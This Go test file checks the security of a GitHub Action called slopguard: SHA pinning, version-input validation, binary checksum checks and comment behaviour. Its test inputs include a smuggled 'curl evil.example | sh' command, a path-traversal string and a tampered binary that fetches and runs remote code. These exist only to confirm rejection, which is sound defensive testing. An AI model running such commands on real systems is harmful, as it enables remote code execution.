package main

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// pinnedUses is a third-party action pinned by a full commit SHA.
var pinnedUses = regexp.MustCompile(`^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+(/[A-Za-z0-9_./-]+)?@[0-9a-f]{40}$`)

// usesOf returns every `uses:` value in a workflow or action file.
func usesOf(t *testing.T, path string) []string {
	t.Helper()
	var doc struct {
		Runs struct {
			Steps []struct {
				Uses string `yaml:"uses"`
			} `yaml:"steps"`
		} `yaml:"runs"`
		Jobs map[string]struct {
			Steps []struct {
				Uses string `yaml:"uses"`
			} `yaml:"steps"`
		} `yaml:"jobs"`
	}
	readYAML(t, path, &doc)
	var uses []string
	for _, s := range doc.Runs.Steps {
		uses = append(uses, s.Uses)
	}
	for _, j := range doc.Jobs {
		for _, s := range j.Steps {
			uses = append(uses, s.Uses)
		}
	}
	return uses
}

// TestActionsArePinnedBySHA: a tag can be moved to other code; a commit
// SHA cannot. The action and the example workflows pin every third-party
// action by SHA (slopguard's own action in the examples is pinned by the
// release tag the reader chooses).
func TestActionsArePinnedBySHA(t *testing.T) {
	t.Parallel()
	for _, f := range append(exampleWorkflows(t), "../../action.yml") {
		n := 0
		for _, u := range usesOf(t, f) {
			if u == "" || strings.HasPrefix(u, "slopguard/slopguard@") || strings.HasPrefix(u, "./") {
				continue
			}
			n++
			if !pinnedUses.MatchString(u) {
				t.Errorf("%s: uses %q, want it pinned by a full commit SHA", filepath.Base(f), u)
			}
		}
		if filepath.Base(f) == "action.yml" && n < 2 {
			t.Errorf("action.yml: %d third-party actions, want the cache and setup-go ones", n)
		}
	}
}

func bashOrSkip(t *testing.T) string {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not found: the action's scripts need it")
	}
	return bash
}

// runScript runs one of the action's scripts with env and returns its exit
// code and what it wrote to GITHUB_OUTPUT.
func runScript(t *testing.T, script string, env map[string]string, args ...string) (int, map[string]string, string) {
	t.Helper()
	out := filepath.Join(t.TempDir(), "github_output")
	cmd := exec.Command(bashOrSkip(t), append([]string{"../../action/" + script}, args...)...)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "GITHUB_OUTPUT=" + out}
	for k, v := range env {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	stdout, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	outputs := map[string]string{}
	if data, err := os.ReadFile(out); err == nil {
		for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
			if k, v, ok := strings.Cut(line, "="); ok {
				outputs[k] = v
			}
		}
	}
	return code, outputs, string(stdout)
}

func TestActionVersionMustBeATagOrSHA(t *testing.T) {
	t.Parallel()
	sha := strings.Repeat("0123456789", 4)
	tests := []struct {
		input, ref string
		want       int
	}{
		{"v0.4.0", "", 0},
		{"v1.2.3-rc.1", "", 0},
		{sha, "", 0},
		{"", "v0.4.0", 0}, // the ref the action was used at
		{"", sha, 0},
		{"", "", 2},
		{"main", "", 2},
		{"", "main", 2}, // used at a branch: refused
		{"release/v1", "", 2},
		{"v1", "", 2},
		{"v1.2", "", 2},
		{"0123abc", "", 2},                        // a short SHA
		{strings.Repeat("ABCDEF0123", 4), "", 2},  // not lower-case hex
		{"v1.2.3\n::set-output name=x::y", "", 2}, // a workflow command
		{"v1.2.3; curl evil.example | sh", "", 2}, // a shell command
		{"../../../etc/passwd", "", 2},
	}
	for _, tt := range tests {
		code, out, log := runScript(t, "resolve-version.sh", map[string]string{
			"INPUT_VERSION": tt.input, "ACTION_REF": tt.ref, "RUNNER_OS": "Linux", "RUNNER_ARCH": "X64", "RUNNER_TOOL_CACHE": "/opt/hostedtoolcache",
		})
		if code != tt.want {
			t.Errorf("version %q ref %q: exit %d, want %d (%s)", tt.input, tt.ref, code, tt.want, log)
			continue
		}
		if code != 0 {
			if strings.Contains(log, tt.input+tt.ref) && tt.input+tt.ref != "" {
				t.Errorf("version %q: the refusal echoes the input: %s", tt.input, log)
			}
			continue
		}
		want := tt.input
		if want == "" {
			want = tt.ref
		}
		if out["version"] != want || out["exe"] != "/opt/hostedtoolcache/slopguard/"+want+"/bin/slopguard" || out["goos"] != "linux" || out["goarch"] != "amd64" {
			t.Errorf("version %q: outputs %v", want, out)
		}
	}
}

func TestActionChecksBinaries(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	exe := filepath.Join(dir, "slopguard")
	good := []byte("#!/bin/sh\necho slopguard\n")
	sum := sha256.Sum256(good)
	want := hex.EncodeToString(sum[:])

	checksums := filepath.Join(dir, "checksums.txt")
	if err := os.WriteFile(checksums, []byte("# comment\n"+want+"  v0.4.0  linux/amd64\n"+strings.Repeat("a", 64)+"  v0.4.0  darwin/arm64\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		version, os, arch, want string
	}{
		{"v0.4.0", "Linux", "X64", want},
		{"v0.4.0", "macOS", "ARM64", strings.Repeat("a", 64)},
		{"v0.4.0", "Windows", "X64", ""},
		{"v0.5.0", "Linux", "X64", ""},
	} {
		code, out, log := runScript(t, "resolve-version.sh", map[string]string{"INPUT_VERSION": tt.version, "RUNNER_OS": tt.os, "RUNNER_ARCH": tt.arch, "SLOPGUARD_CHECKSUMS": checksums})
		if code != 0 || out["want"] != tt.want {
			t.Errorf("%s on %s/%s: exit %d, want %q; got %q (%s)", tt.version, tt.os, tt.arch, code, tt.want, out["want"], log)
		}
	}

	tests := []struct {
		name     string
		mode     string
		content  []byte // nil: no binary
		want     string
		wantCode int
		wantOK   string
		wantKept bool
	}{
		{"cached and listed", "cached", good, want, 0, "true", true},
		{"cached but tampered", "cached", []byte("#!/bin/sh\ncurl evil.example | sh\n"), want, 0, "false", false},
		{"cached, version not listed", "cached", good, "", 0, "false", false},
		{"not cached", "cached", nil, want, 0, "false", false},
		{"built and matching", "built", good, want, 0, "true", true},
		{"built, version not listed", "built", good, "", 0, "false", true},
		{"built but different", "built", []byte("other"), want, 1, "", false},
	}
	for _, tt := range tests {
		os.Remove(exe)
		if tt.content != nil {
			if err := os.WriteFile(exe, tt.content, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		code, out, log := runScript(t, "verify-binary.sh", map[string]string{"EXE": exe, "WANT": tt.want, "VERSION": "v0.4.0"}, tt.mode)
		_, statErr := os.Stat(exe)
		if code != tt.wantCode || out["ok"] != tt.wantOK || (statErr == nil) != tt.wantKept {
			t.Errorf("%s: exit %d ok=%q kept=%v; want exit %d ok=%q kept=%v (%s)", tt.name, code, out["ok"], statErr == nil, tt.wantCode, tt.wantOK, tt.wantKept, log)
		}
	}
}

// TestPullRequestTargetExampleCommentsOnce: the example runs on every edit
// of a flagged pull request, so it must update one marked comment instead
// of adding one per edit, and create the label before adding it (gh pr
// edit fails on a missing label, and the comment step would never run).
func TestPullRequestTargetExampleCommentsOnce(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile("../../docs/examples/github-workflows/slopguard-pull-request-target.yml")
	if err != nil {
		t.Fatal(err)
	}
	s := string(data)
	for _, want := range []string{"<!-- slopguard -->", "-X PATCH", "gh label create possible-slop"} {
		if !strings.Contains(s, want) {
			t.Errorf("the pull_request_target example lacks %q", want)
		}
	}
	if i, j := strings.Index(s, "gh label create"), strings.Index(s, "--add-label"); i < 0 || j < 0 || i > j {
		t.Errorf("the label must be created before it is added")
	}
}
